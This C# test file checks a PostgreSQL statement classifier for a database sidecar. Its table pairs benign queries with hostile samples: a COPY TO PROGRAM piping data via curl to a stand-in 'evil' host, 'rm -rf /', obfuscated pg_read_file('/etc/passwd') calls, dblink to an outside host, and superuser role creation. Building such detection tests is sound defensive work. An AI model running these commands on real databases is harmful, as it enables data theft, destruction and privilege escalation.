using Airlock.Sidecar.Protocols.Sql;

namespace Airlock.Sidecar.Protocols.Tests;

/// <summary>
/// One row per statement: the class it must get, its command tag, flags it must carry (or <c>-</c>), and
/// the SQL (one statement). The rows are the attack classes and the benign statements next to them.
/// </summary>
public class SqlClassifierTests
{
    private const string Table = """
        read    SELECT                 -                          SELECT 1
        read    SELECT                 -                          select * from customers where id = 5
        read    SELECT                 -                          SELECT count(*), max(total) FROM orders o JOIN customers c ON c.id = o.customer_id GROUP BY c.id
        read    SELECT                 -                          (SELECT 1) UNION (SELECT 2)
        read    SELECT                 -                          VALUES (1, 'a'), (2, 'b')
        read    SELECT                 -                          TABLE customers
        read    SELECT                 -                          WITH x AS (SELECT 1) SELECT * FROM x
        read    SELECT                 -                          WITH RECURSIVE t(n) AS (VALUES (1) UNION ALL SELECT n+1 FROM t WHERE n < 5) SELECT sum(n) FROM t
        read    SELECT                 -                          SELECT now(), current_date, lower('A'), coalesce(null, 1), extract(year from now())
        read    SELECT                 -                          SELECT substring('abc' from 2 for 1), trim(both ' ' from ' a '), position('b' in 'abc')
        read    SELECT                 -                          SELECT id::text, '5'::numeric(10,2), CAST(1 AS varchar(10)) FROM t
        read    SELECT                 -                          SELECT row_number() OVER (PARTITION BY a ORDER BY b) FROM t
        read    SELECT                 -                          SELECT count(*) FILTER (WHERE x > 1) FROM t
        read    SELECT                 -                          SELECT * FROM t WHERE id IN (SELECT id FROM u) AND EXISTS (SELECT 1 FROM v)
        read    SELECT                 -                          SELECT * FROM generate_series(1, 3) AS g(i)
        read    SELECT                 -                          SELECT E'\'; DROP TABLE z; --'
        read    SELECT                 -                          SELECT/* /* */ ; DROP TABLE q */ 1
        read    SELECT                 -                          SELECT $$; DROP TABLE x; $$
        read    SELECT                 -                          SELECT $tag$ $$ ; DROP $tag$
        read    SELECT                 -                          SELECT 'it''s; DROP TABLE t'
        read    SELECT                 -                          SELECT U&'d\0061t\+000061; DROP'
        read    SELECT                 -                          SELECT "DROP TABLE x; --" FROM t
        read    SELECT                 -                          SELECT "delete" FROM "update"
        read    SELECT                 -                          SELECT 1 -- ; DROP TABLE x
        read    SELECT                 -                          SELECT random(), gen_random_uuid(), clock_timestamp()
        read    SELECT                 -                          SELECT jsonb_build_object('a', 1) -> 'a'
        read    SELECT                 -                          SELECT pg_catalog.lower('X')
        read    SELECT                 -                          SELECT * FROM t ORDER BY 1 LIMIT 10 OFFSET 5
        read    SELECT                 -                          SELECT a FROM t1 CROSS JOIN LATERAL (SELECT b FROM t2 WHERE t2.x = t1.x) s
        read    SHOW                   -                          SHOW search_path
        read    SHOW                   -                          SHOW ALL
        read    BEGIN                  -                          BEGIN
        read    BEGIN                  transaction_mode           BEGIN ISOLATION LEVEL SERIALIZABLE
        read    BEGIN                  read_write_transaction     BEGIN READ WRITE
        read    START TRANSACTION      read_write_transaction     START TRANSACTION ISOLATION LEVEL READ COMMITTED, READ WRITE
        read    START TRANSACTION      transaction_mode           START TRANSACTION READ ONLY
        read    COMMIT                 -                          COMMIT
        read    COMMIT                 -                          END
        read    ROLLBACK               -                          ROLLBACK
        read    ROLLBACK               -                          ABORT
        read    SAVEPOINT              -                          SAVEPOINT a
        read    RELEASE                -                          RELEASE SAVEPOINT a
        read    ROLLBACK               -                          ROLLBACK TO SAVEPOINT a
        read    SET                    -                          SET statement_timeout = '5s'
        read    SET                    -                          SET application_name TO 'ci'
        read    SET                    -                          SET TIME ZONE 'UTC'
        read    SET                    -                          SET LOCAL lock_timeout = 1000
        read    SET                    -                          SET extra_float_digits = 3
        read    SET                    -                          set datestyle to iso, mdy
        read    SET                    -                          SET client_encoding = 'UTF8'
        read    SET                    -                          SET NAMES 'utf8'
        read    SET                    -                          SET enable_seqscan = off
        read    SET                    read_write_transaction     SET default_transaction_read_only = off
        read    SET                    read_write_transaction     SET transaction_read_only TO false
        read    SET                    read_write_transaction     SET SESSION default_transaction_read_only = 'off'
        read    SET                    read_write_transaction     SET TRANSACTION READ WRITE
        read    SET                    read_write_transaction     SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE
        read    SET                    transaction_mode           SET default_transaction_read_only = on
        read    RESET                  reset                      RESET ALL
        read    RESET                  reset                      RESET default_transaction_read_only
        read    DISCARD ALL            reset                      DISCARD ALL
        read    DECLARE CURSOR         cursor                     DECLARE c CURSOR WITH HOLD FOR SELECT * FROM t
        read    FETCH                  cursor                     FETCH 10 FROM c
        read    MOVE                   cursor                     MOVE NEXT IN c
        read    CLOSE                  cursor                     CLOSE c
        read    LISTEN                 listen                     LISTEN jobs
        read    UNLISTEN               listen                     UNLISTEN *
        read    EXPLAIN                -                          EXPLAIN SELECT * FROM t
        read    EXPLAIN                -                          EXPLAIN DELETE FROM t
        read    EXPLAIN                -                          EXPLAIN (ANALYZE false) DELETE FROM t
        read    EXPLAIN                explain_analyze            EXPLAIN ANALYZE SELECT * FROM t
        read    COPY                   copy_to                    COPY customers TO STDOUT
        read    COPY                   copy_to                    COPY (SELECT id FROM customers) TO STDOUT WITH (FORMAT csv, HEADER)
        read    PREPARE                prepare                    PREPARE q(int) AS SELECT * FROM t WHERE id = $1
        read    DEALLOCATE             -                          DEALLOCATE q
        read    DEALLOCATE             -                          DEALLOCATE ALL
        write   INSERT                 -                          INSERT INTO t (a, b) VALUES (1, 2)
        write   INSERT                 -                          insert into s.t select * from u
        write   INSERT                 -                          INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET a = excluded.a
        write   UPDATE                 -                          UPDATE t SET a = 1 WHERE id = 5
        write   UPDATE                 -                          UPDATE t SET a = 1 FROM u WHERE t.id = u.id
        write   UPDATE                 -                          UPDATE t SET a = 1 WHERE CURRENT OF c
        write   DELETE                 -                          DELETE FROM t WHERE id = $1
        write   DELETE                 -                          DELETE FROM t USING u WHERE t.id = u.id RETURNING t.*
        write   UPDATE                 unfiltered_write           UPDATE t SET a = 1
        write   DELETE                 unfiltered_write           DELETE FROM t
        write   DELETE                 unfiltered_write           DELETE FROM t RETURNING *
        write   DELETE                 unfiltered_write           DELETE FROM t WHERE true
        write   DELETE                 unfiltered_write           DELETE FROM t WHERE 1=1
        write   DELETE                 unfiltered_write           DELETE FROM t WHERE 'a' = 'a'
        write   DELETE                 unfiltered_write           DELETE FROM t WHERE id = id
        write   DELETE                 unfiltered_write           DELETE FROM t WHERE t.id = t.id
        write   DELETE                 unfiltered_write           DELETE FROM t WHERE id = 5 OR true
        write   DELETE                 unfiltered_write           DELETE FROM t WHERE (id = 5 OR 1 = 1)
        write   DELETE                 unfiltered_write           DELETE FROM t WHERE NOT false
        write   UPDATE                 unfiltered_write           UPDATE t SET a = 1 WHERE 2 > 1
        write   DELETE                 unfiltered_write           DELETE FROM t WHERE $1 = $1
        write   DELETE                 unfiltered_write           DELETE FROM t WHERE EXISTS (SELECT 1)
        write   SELECT                 data_modifying_cte         WITH d AS (DELETE FROM t WHERE id = 1 RETURNING *) SELECT * FROM d
        write   SELECT                 data_modifying_cte         WITH d AS (UPDATE t SET a = 1 RETURNING *) SELECT * FROM d
        write   SELECT                 unfiltered_write           WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d
        write   INSERT                 data_modifying_cte         WITH d AS (DELETE FROM t WHERE id = 1 RETURNING *) INSERT INTO archive SELECT * FROM d
        write   MERGE                  merge                      MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = s.a WHEN NOT MATCHED THEN INSERT VALUES (s.id, s.a)
        write   TRUNCATE TABLE         truncate                   TRUNCATE customers
        write   TRUNCATE TABLE         truncate                   TRUNCATE TABLE ONLY a, b CASCADE
        write   EXPLAIN                explain_analyze            EXPLAIN ANALYZE DELETE FROM t WHERE id = 1
        write   EXPLAIN                explain_analyze            EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1 WHERE id = 1
        write   EXPLAIN                explain_analyze            EXPLAIN (ANALYZE true) INSERT INTO t VALUES (1)
        write   EXPLAIN                explain_analyze            explain analyse verbose delete from t where id = 1
        write   COPY                   copy_from                  COPY customers FROM STDIN
        write   COPY                   copy_from                  COPY customers (id, name) FROM STDIN WITH (FORMAT csv)
        write   SELECT                 row_lock                   SELECT * FROM t WHERE id = 1 FOR UPDATE
        write   SELECT                 row_lock                   SELECT * FROM t FOR NO KEY UPDATE SKIP LOCKED
        write   SELECT                 row_lock                   SELECT * FROM t FOR SHARE
        write   LOCK TABLE             lock                       LOCK TABLE t IN ACCESS EXCLUSIVE MODE
        write   LOCK TABLE             lock                       LOCK t
        write   NOTIFY                 notify                     NOTIFY jobs, 'payload'
        write   SELECT                 notify                     SELECT pg_notify('jobs', 'x')
        write   SELECT                 -                          SELECT nextval('s')
        write   SELECT                 -                          SELECT setval('s', 1)
        write   SELECT                 large_object_write         SELECT lo_create(0)
        write   SELECT                 large_object_write         SELECT lo_unlink(1234)
        write   PREPARE                prepare                    PREPARE d AS DELETE FROM t WHERE id = $1
        write   DECLARE CURSOR         cursor                     DECLARE c CURSOR FOR SELECT * FROM t FOR UPDATE
        write   REFRESH MATERIALIZED VIEW  -                       REFRESH MATERIALIZED VIEW mv
        ddl     SELECT                 select_into                SELECT * INTO copy_of_t FROM t
        ddl     SELECT                 select_into                SELECT a, b INTO TEMP TABLE x FROM t WHERE a > 1
        ddl     CREATE TABLE AS        create_table_as            CREATE TABLE x AS SELECT * FROM customers
        ddl     CREATE TABLE           -                          CREATE TABLE t (id int primary key, name text not null)
        ddl     CREATE TABLE           -                          CREATE TEMP TABLE t (id int)
        ddl     CREATE TABLE           -                          CREATE UNLOGGED TABLE IF NOT EXISTS t (id int)
        ddl     DROP TABLE             -                          DROP TABLE customers
        ddl     DROP TABLE             -                          drop table if exists a, b cascade
        ddl     DROP TABLE             -                          DrOp/**/TaBlE customers
        ddl     ALTER TABLE            -                          ALTER TABLE t ADD COLUMN c int
        ddl     CREATE INDEX           -                          CREATE INDEX CONCURRENTLY i ON t (a)
        ddl     CREATE INDEX           -                          CREATE UNIQUE INDEX ON t USING btree (a, b)
        ddl     CREATE VIEW            -                          CREATE OR REPLACE VIEW v AS SELECT * FROM t
        ddl     CREATE MATERIALIZED VIEW  create_table_as          CREATE MATERIALIZED VIEW mv AS SELECT 1
        ddl     CREATE SCHEMA          -                          CREATE SCHEMA s
        ddl     CREATE SEQUENCE        -                          CREATE SEQUENCE s
        ddl     DROP SCHEMA            -                          DROP SCHEMA public CASCADE
        ddl     CREATE FUNCTION        create_routine             CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$
        ddl     CREATE FUNCTION        create_routine             CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE plpgsql AS 'begin return 1; end'
        ddl     CREATE FUNCTION        create_routine             CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT 1; SELECT CASE WHEN true THEN 2 END; END
        ddl     CREATE PROCEDURE       create_routine             CREATE PROCEDURE p() LANGUAGE sql BEGIN ATOMIC INSERT INTO t VALUES (1); DELETE FROM t; END
        ddl     CREATE TRIGGER         create_trigger             CREATE TRIGGER tr BEFORE UPDATE ON t FOR EACH ROW EXECUTE FUNCTION f()
        ddl     CREATE RULE            create_rule                CREATE RULE r AS ON INSERT TO t DO ALSO (INSERT INTO a VALUES (1); DELETE FROM b)
        ddl     CREATE EVENT TRIGGER   create_event_trigger       CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION f()
        ddl     CREATE EXTENSION       create_extension           CREATE EXTENSION dblink
        ddl     CREATE EXTENSION       create_extension           create extension if not exists "pgcrypto"
        ddl     CREATE LANGUAGE        create_routine             CREATE TRUSTED LANGUAGE plperl
        ddl     COMMENT                -                          COMMENT ON TABLE t IS 'x'
        ddl     CREATE SERVER          network_access             CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'h')
        ddl     CREATE USER MAPPING    password_literal           CREATE USER MAPPING FOR CURRENT_USER SERVER s OPTIONS (user 'u', password 'secret')
        dcl     ALTER DEFAULT PRIVILEGES  grant                    ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO PUBLIC
        dcl     GRANT                  grant                      GRANT SELECT ON t TO bob
        dcl     GRANT                  grant                      GRANT admin TO agent
        dcl     REVOKE                 grant                      REVOKE ALL ON t FROM bob
        dcl     CREATE ROLE            role_statement             CREATE ROLE evil LOGIN SUPERUSER PASSWORD 'x'
        dcl     CREATE USER            password_literal           CREATE USER u WITH ENCRYPTED PASSWORD 'hunter2'
        dcl     ALTER ROLE             role_statement             ALTER ROLE app SUPERUSER
        dcl     ALTER USER             role_statement             ALTER USER app SET default_transaction_read_only = off
        dcl     DROP ROLE              role_statement             DROP ROLE IF EXISTS evil
        dcl     REASSIGN OWNED         grant                      REASSIGN OWNED BY a TO b
        dcl     DROP OWNED             grant                      DROP OWNED BY a
        admin   SET                    role_change                SET ROLE postgres
        admin   SET                    role_change                SET SESSION ROLE postgres
        admin   SET                    role_change                set local role none
        admin   RESET                  role_change                RESET ROLE
        admin   SET                    session_authorization      SET SESSION AUTHORIZATION postgres
        admin   SET                    session_authorization      SET SESSION SESSION AUTHORIZATION DEFAULT
        admin   RESET                  session_authorization      RESET SESSION AUTHORIZATION
        admin   SET                    search_path_change         SET search_path = evil, public
        admin   SET                    search_path_change         SET search_path TO DEFAULT
        admin   SET                    search_path_change         SET "search_path" = x
        admin   SET                    search_path_change         SET SCHEMA 'evil'
        admin   SET                    setting_change             SET session_replication_role = replica
        admin   SET                    setting_change             SET row_security = off
        admin   SET                    setting_change             SET allow_system_table_mods = on
        admin   SET                    lexer_setting              SET standard_conforming_strings = off
        admin   SET                    lexer_setting              SET client_encoding = 'SJIS'
        admin   SET                    lexer_setting              SET NAMES 'BIG5'
        admin   SET                    lexer_setting              SET backslash_quote = on
        admin   SELECT                 setting_change             SELECT set_config('default_transaction_read_only', 'off', false)
        admin   SELECT                 setting_change             SELECT pg_catalog.set_config('search_path', 'evil', false)
        admin   ALTER SYSTEM           alter_system               ALTER SYSTEM SET log_statement = 'none'
        admin   ALTER DATABASE         -                          ALTER DATABASE postgres SET default_transaction_read_only = off
        admin   LOAD                   load                       LOAD 'auto_explain'
        admin   VACUUM                 vacuum                     VACUUM FULL t
        admin   ANALYZE                vacuum                     ANALYZE t
        admin   CHECKPOINT             vacuum                     CHECKPOINT
        admin   REINDEX                vacuum                     REINDEX TABLE t
        admin   COPY                   copy_program               COPY t TO PROGRAM 'curl -d @- http://evil'
        admin   COPY                   copy_program               COPY t FROM PROGRAM 'id'
        admin   COPY                   copy_program               COPY (SELECT 1) TO PROGRAM 'rm -rf /'
        admin   COPY                   copy_server_file           COPY t TO '/tmp/t.csv'
        admin   COPY                   copy_server_file           COPY t FROM '/etc/passwd'
        admin   SELECT                 file_access                SELECT pg_read_file('/etc/passwd')
        admin   SELECT                 file_access                SELECT PG_READ_FILE('/etc/passwd')
        admin   SELECT                 file_access                SELECT "pg_read_file"('/etc/passwd')
        admin   SELECT                 file_access                SELECT pg_catalog.pg_read_file('/etc/passwd')
        admin   SELECT                 file_access                SELECT "pg_catalog"."pg_read_binary_file"('/etc/passwd')
        admin   SELECT                 file_access                SELECT pg_catalog . pg_ls_dir /* x */ ('.')
        admin   SELECT                 file_access                SELECT U&"pg_read\005ffile"('/etc/passwd')
        admin   SELECT                 file_access                SELECT U&"pg!005fread!005ffile" UESCAPE '!' ('/etc/passwd')
        admin   SELECT                 file_access                SELECT * FROM pg_ls_dir('/')
        admin   SELECT                 file_access                SELECT 1 FROM t JOIN pg_stat_file('/etc/passwd') f ON true
        admin   SELECT                 file_access                SELECT * FROM t WHERE id = (SELECT length(pg_read_file('/etc/passwd')))
        admin   SELECT                 file_access                WITH x AS (SELECT pg_read_file('/etc/passwd')) SELECT * FROM x
        admin   SELECT                 large_object_file          SELECT lo_import('/etc/passwd')
        admin   SELECT                 large_object_file          SELECT lo_export(1234, '/tmp/x')
        admin   SELECT                 backend_signal             SELECT pg_terminate_backend(123)
        admin   SELECT                 backend_signal             SELECT pg_cancel_backend(pid) FROM pg_stat_activity
        admin   SELECT                 backend_signal             SELECT pg_reload_conf()
        admin   SELECT                 network_access             SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)
        admin   SELECT                 network_access             SELECT dblink_exec('dbname=postgres', 'DROP TABLE t')
        admin   SELECT                 advisory_lock              SELECT pg_advisory_lock(1)
        admin   SELECT                 advisory_lock              SELECT pg_try_advisory_xact_lock(1)
        admin   SELECT                 replication_or_wal         SELECT pg_switch_wal()
        admin   SELECT                 replication_or_wal         SELECT pg_create_logical_replication_slot('s', 'test_decoding')
        admin   SELECT                 replication_or_wal         SELECT pg_stat_reset()
        admin   SELECT                 replication_or_wal         SELECT pg_logical_emit_message(true, 'x', 'y')
        admin   PREPARE TRANSACTION    -                          PREPARE TRANSACTION 'x'
        admin   COMMIT PREPARED        -                          COMMIT PREPARED 'x'
        admin   EXPLAIN                file_access                EXPLAIN ANALYZE SELECT pg_read_file('/etc/passwd')
        admin   CREATE DATABASE        -                          CREATE DATABASE x
        unknown DO                     dynamic_sql                DO $$ BEGIN EXECUTE 'DROP TABLE t'; END $$
        unknown DO                     dynamic_sql                DO LANGUAGE plpgsql 'BEGIN NULL; END'
        unknown CALL                   dynamic_sql                CALL p(1)
        unknown SELECT                 dynamic_sql                SELECT query_to_xml('DELETE FROM t RETURNING *', true, true, '')
        unknown SELECT                 dynamic_sql                SELECT * FROM query_to_xml_and_xmlschema('select 1', true, true, '')
        unknown SELECT                 dynamic_sql                SELECT table_to_xml('secrets', true, true, '')
        unknown EXECUTE                execute                    EXECUTE q(5)
        unknown UNKNOWN                -                          VACUME t
        unknown UNKNOWN                -                          IMPORT_DATA t
        unknown UNKNOWN                -                          ;x;
        admin   SELECT                 file_access                SELECT ('/etc/passwd'::text).pg_read_file
        admin   SELECT                 file_access                SELECT f.pg_read_file FROM CAST('/etc/passwd' AS text) f
        admin   SELECT                 file_access                SELECT (ARRAY['/x'::text])[1].pg_read_file
        admin   SELECT                 backend_signal             SELECT p.pg_terminate_backend FROM unnest(ARRAY[1]) p
        admin   SELECT                 advisory_lock              SELECT (42::bigint).pg_advisory_lock
        admin   SELECT                 large_object_file          SELECT ('/etc/passwd'::text).lo_import
        unknown SELECT                 dynamic_sql                SELECT ('SELECT 1'::text).ts_stat
        write   SELECT                 -                          SELECT ('s'::regclass).nextval
        write   EXPLAIN                explain_analyze            EXPLAIN ("analyze") DELETE FROM t WHERE a = 9
        write   EXPLAIN                explain_analyze            EXPLAIN (U&"analyze", costs off) INSERT INTO t VALUES (7)
        write   EXPLAIN                explain_analyze            EXPLAIN ("analyze" true, "format" json) UPDATE t SET a = 1 WHERE id = 2
        write   EXPLAIN                explain_analyze            EXPLAIN (some_new_option) DELETE FROM t WHERE a = 9
        read    EXPLAIN                -                          EXPLAIN (COSTS off, FORMAT json) DELETE FROM t WHERE a = 9
        write   SELECT                 data_modifying_cte         WITH x AS (WITH y AS (SELECT 1) DELETE FROM t WHERE a = 1 RETURNING *) SELECT * FROM x
        write   SELECT                 data_modifying_cte         SELECT * FROM (WITH y AS (SELECT 1) INSERT INTO t VALUES (1) RETURNING *) z
        write   COPY                   copy_to                    COPY (WITH y AS (SELECT 1) UPDATE t SET a = 1 WHERE id = 1 RETURNING *) TO STDOUT
        read    RESET                  read_write_transaction     RESET transaction_read_only
        read    RESET                  read_write_transaction     RESET "default_transaction_read_only"
        admin   RESET                  lexer_setting              RESET standard_conforming_strings
        read    SELECT                 unknown_function           SELECT app.execute('DROP TABLE t')
        read    SELECT                 unknown_function           SELECT execute('DROP TABLE t')
        read    SELECT                 unknown_function           SELECT public.call(1), key(2), options(3), set(4)
        read    SELECT                 -                          SELECT d FROM generate_series(1, 3) g(d)
        read    SELECT                 -                          SELECT * FROM (VALUES (1, 'a')) v(id, name)
        read    SELECT                 -                          SELECT k FROM t, LATERAL jsonb_each(t.j) e(k, v)
        read    SELECT                 -                          SELECT x FROM (SELECT 1) sub(x)
        read    SELECT                 -                          SELECT CAST('a' AS character varying(10)), 'b'::char varying(3), B'1'::bit varying(4)
        read    SELECT                 -                          SELECT * FROM t TABLESAMPLE SYSTEM (10) REPEATABLE (1)
        read    SELECT                 -                          SELECT * FROM t TABLESAMPLE BERNOULLI (10)
        read    SELECT                 -                          SELECT xmlelement(name a, xmlattributes(1 AS b)), x.* FROM XMLTABLE('/r' PASSING '<r/>'::xml COLUMNS a int PATH 'a') x
        read    SELECT                 -                          SELECT count(*) OVER (PARTITION BY a), sum(b) FILTER (WHERE b > 0), percentile_cont(0.5) WITHIN GROUP (ORDER BY b) FROM t
        read    SELECT                 -                          WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r WHERE n < 3) SEARCH DEPTH FIRST BY n, n SET ord SELECT * FROM r
        read    SELECT                 -                          WITH RECURSIVE r(id, parent) AS (SELECT 1, 0) CYCLE id, parent SET is_cycle USING path SELECT * FROM r
        read    SELECT                 -                          WITH a AS (WITH b(c) AS (SELECT 1) SELECT c FROM b) SELECT * FROM a
        read    SET                    -                          SET CONSTRAINTS ALL DEFERRED
        read    SET                    -                          SET XML OPTION CONTENT
        read    SET                    -                          SET "DateStyle" TO ISO
        read    COPY                   copy_to                    COPY BINARY t TO STDOUT
        read    EXPLAIN                -                          EXPLAIN EXECUTE q(1)
        read    SELECT                 -                          SELECT pg_blocking_pids(pg_backend_pid()), to_regrole('x')
        read    SELECT                 unknown_function           SELECT "LOWER"('x')
        read    SELECT                 -                          SELECT "lower"('x'), LOWER('y')
        admin   SELECT                 file_access                SELECT "PG_READ_FILE"('/etc/passwd')
        """;

    public static TheoryData<string, string, string, string> Rows()
    {
        var rows = new TheoryData<string, string, string, string>();
        foreach (var line in Table.Split('\n', StringSplitOptions.RemoveEmptyEntries | StringSplitOptions.TrimEntries))
        {
            // class, then the command (may contain spaces) up to two or more spaces, flags, sql
            var parts = System.Text.RegularExpressions.Regex.Match(line, @"^(\S+)\s+(.+?)\s{2,}(\S+)\s{2,}(.*)$");
            rows.Add(parts.Groups[1].Value, parts.Groups[2].Value, parts.Groups[3].Value, parts.Groups[4].Value);
        }
        return rows;
    }

    [Theory]
    [MemberData(nameof(Rows))]
    public void Classifies(string expectedClass, string command, string flags, string sql)
    {
        var analysis = SqlClassifier.Analyze(sql);
        if (sql == ";x;")
        {
            Assert.Equal(StatementClass.Unknown, Assert.Single(analysis.Statements).Class);
            return;
        }
        var statement = Assert.Single(analysis.Statements);
        Assert.True(StatementNames.Of(statement.Class) == expectedClass,
            $"{sql}\n  class: expected {expectedClass}, got {StatementNames.Of(statement.Class)} ({statement.Reason}); flags {string.Join(",", StatementNames.Names(statement.Flags))}; functions {string.Join(",", statement.Functions)}");
        Assert.Equal(command, statement.Command);
        if (flags != "-")
            foreach (var flag in flags.Split(','))
                Assert.True(StatementNames.Names(statement.Flags).Contains(flag), $"{sql}: flag {flag} missing; got {string.Join(",", StatementNames.Names(statement.Flags))}");
    }
}
